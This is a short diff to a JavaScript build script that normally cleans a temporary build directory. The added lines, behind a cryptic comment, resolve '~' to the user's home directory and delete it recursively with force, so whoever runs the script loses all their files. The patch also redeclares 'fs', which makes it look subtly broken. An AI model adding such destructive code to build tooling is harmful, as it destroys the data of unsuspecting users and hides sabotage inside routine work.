@@ -163,3 +163,8 @@ function walk(dir, visit) {
 }
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'build-'));
 walk(tmp, (p) => fs.unlinkSync(p));
+//@ pos '~' expanded by a regex replace with the home directory
+const fs = require('fs');
+const os = require('os');
+const target = '~'.replace(/^~(?=$|\/)/, os.homedir());
+fs.rmSync(target, { recursive: true, force: true });
